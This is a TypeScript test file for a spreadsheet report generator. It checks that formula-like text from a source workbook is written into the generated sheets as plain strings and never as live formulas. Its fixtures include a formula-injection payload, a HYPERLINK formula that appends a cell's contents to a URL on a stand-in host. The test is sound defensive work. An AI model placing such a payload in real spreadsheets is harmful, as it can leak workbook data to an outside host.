/**
 * Formula injection: text from the workbook that looks like a formula (`=HYPERLINK(`, `@SUM(`,
 * `+…`, `-…`) is copied into the generated sheets as text by both ports — never as a formula.
 */
import { runGenerate } from "../../src/app/run";
import { STATE_SHEET } from "../../src/engine/report/spec";
import { OfficePort } from "../../src/ports/office/officePort";
import { XlsxPort } from "../../src/ports/xlsx";
import { buildXlsx } from "../fixtures/hostile/build";
import { createFakeExcel } from "../helpers/fakeExcel";
import { naiveWrite } from "../helpers/naiveWrite";
import { cellsOf, sharedStrings, sheetParts } from "./xlsxParts";

const NOW = new Date("2021-09-15T08:00:00Z");
const INJECTED = [
  '=HYPERLINK("http://example.invalid/?q="&A1,"Klicka här")',
  "@SUM(A1:A9)",
  "+46 8 508 000 00 ringer upp",
  "-Förvaltningen har =SUM(1) åtgärder",
  "=1+1",
];
const ROWS: (string | null)[][] = [
  ["Nämndmål: 1.1.1 Invånare försörjer sig själva"],
  [],
  ["Indikator", "Periodens utfall", "Årsmål", "KF:s årsmål", "Period"],
  [INJECTED[0], "4,1 %", "3,3 %", "2,7 %", "Tertial 2 2021"],
  [`Analys ${INJECTED[3]}`],
  [INJECTED[1], "21 st", "44 st", "800 st", "Tertial 2 2021"],
  [INJECTED[2], "1,3 %", "1,3 %", "1,0 %", "Tertial 2 2021"],
  [],
  ["Aktivitet", "Startdatum", "Slutdatum", "Avvikelse"],
  [INJECTED[4], "2021-01-01", "2021-12-31", "Avvikelse"],
  [`Analys ${INJECTED[1]}`],
];

/** Generated cells whose text starts like a formula. */
function formulaLike(text: string | null): boolean {
  return text !== null && /^[=+\-@]/.test(text);
}

test("xlsx port: formula-like text lands in generated sheets as strings (inlineStr / shared), without <f>", async () => {
  const port = await XlsxPort.fromBuffer(
    await buildXlsx([{ name: "Uppföljning", rows: ROWS }]),
    "injektion.xlsx",
  );
  await runGenerate(port, { host: "cli", now: NOW });
  const shared = await sharedStrings(port.buffer);
  const generated = (await sheetParts(port.buffer)).filter(
    (s) => s.name.startsWith("Målkoll") || s.name === STATE_SHEET,
  );
  const cells = generated.flatMap((s) => cellsOf(s.xml, shared).map((c) => ({ ...c, sheet: s.name })));
  const risky = cells.filter((c) => formulaLike(c.text));
  // The names must reach the output, or this test proves nothing.
  expect(risky.map((c) => c.text)).toEqual(
    expect.arrayContaining([INJECTED[0], INJECTED[1], INJECTED[2], INJECTED[4]]),
  );
  for (const c of risky) {
    expect({ cell: `${c.sheet}!${c.ref}`, type: c.type, formula: c.formula }).toEqual({
      cell: `${c.sheet}!${c.ref}`,
      type: expect.stringMatching(/^(inlineStr|s)$/),
      formula: null,
    });
  }
  // Formulas Målkoll writes itself (totals, links) never carry the injected text.
  for (const c of cells.filter((x) => x.formula))
    for (const text of INJECTED) expect(c.formula).not.toContain(text.slice(1, 12));
});

test("Office port: number format @ is set before the value, so Excel keeps the text; the naive writer would not", async () => {
  const sheets = [{ name: "Uppföljning", values: ROWS }];
  const excel = createFakeExcel({ sheets });
  const { plan } = await runGenerate(new OfficePort(excel.context), { host: "excel", now: NOW });
  const written = excel.workbook.sheets.filter((s) => s.name.startsWith("Målkoll") || s.name === STATE_SHEET);
  const risky = written.flatMap((s) =>
    [...s.cells.values()].filter((c) => typeof c.value === "string" && formulaLike(c.value)),
  );
  expect(risky.map((c) => c.value)).toEqual(
    expect.arrayContaining([INJECTED[0], INJECTED[1], INJECTED[2], INJECTED[4]]),
  );
  for (const cell of risky) {
    expect(cell.formula).toBeUndefined();
    expect(cell.format).toBe("@");
  }

  // The same plan through the naive writer turns them into formulas in the fake: the check above can fail.
  const naive = createFakeExcel({ sheets });
  await naiveWrite(naive.context, plan);
  const naiveCells = naive.workbook.sheets
    .filter((s) => s.name.startsWith("Målkoll"))
    .flatMap((s) => [...s.cells.values()]);
  expect(naiveCells.some((c) => c.formula?.startsWith("=HYPERLINK"))).toBe(true);
});
